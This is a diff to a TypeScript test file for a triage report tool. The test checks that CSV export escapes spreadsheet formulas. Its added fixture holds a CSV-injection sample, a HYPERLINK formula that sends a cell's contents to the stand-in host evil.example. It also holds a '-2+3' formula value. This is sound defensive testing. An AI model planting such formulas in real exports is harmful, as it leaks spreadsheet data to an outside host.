@@ -16,8 +16,8 @@ beforeAll(async () => {
   const at = Date.now() - 3_600_000;
   const e = (kind: TriageEvent['kind'], fields: Partial<TriageEvent> = {}): TriageEvent => ({ at, kind, triage: 'c/t1', user: 'u1', ...fields });
   await store.append(
-    [e('started'), e('identified', { code: '0x800B0004', article: 'trust-subject-not-trusted' }), e('outcome', { at: at + 120_000, article: 'trust-subject-not-trusted', cause: 'revocation-check-blocked', outcome: 'fixed' }), e('unmatched', { triage: '', user: 'u2', gap: 'text:printer, noise' })],
-    [{ gap: 'text:printer, noise', sample: 'the "printer", noise on [host]', at }],
+    [e('started'), e('identified', { code: '0x800B0004', article: 'trust-subject-not-trusted' }), e('outcome', { at: at + 120_000, article: 'trust-subject-not-trusted', cause: 'revocation-check-blocked', outcome: 'fixed' }), e('unmatched', { triage: '', user: 'u2', gap: 'text:printer, noise' }), e('unmatched', { triage: '', user: 'u3', gap: '-2+3' })],
+    [{ gap: 'text:printer, noise', sample: 'the "printer", noise on [host]', at }, { gap: '-2+3', sample: '=HYPERLINK("https://evil.example/?"&A1,"details")', at }],
   );
   await store.close();
 });
@@ -39,6 +39,9 @@ test('Markdown by default: the figures, the named error and the redacted gap sam
 test('CSV for a spreadsheet, quoting what needs quoting; JSON with the same numbers', () => {
   const csv = run('--since', '30d', '--format', 'csv');
   expect(csv.stdout.split('\r\n')).toEqual(expect.arrayContaining(['section,item,count,users,rate,detail', 'summary,started,1,,,', 'knowledge gap,"text:printer, noise",1,1,,"the ""printer"", noise on [host]"']));
+  // A paste that a spreadsheet would run as a formula is exported as text.
+  expect(csv.stdout.split('\r\n')).toContain('knowledge gap,\'-2+3,1,1,,"\'=HYPERLINK(""https://evil.example/?""&A1,""details"")"');
+  expect(csv.stdout).not.toMatch(/(^|,)"?[=+\-@]/m);
   const json = JSON.parse(run('--since=1d', '--format=json').stdout) as { fixed: number; deflection: number };
   expect(json).toMatchObject({ fixed: 1, deflection: 1 });
 });
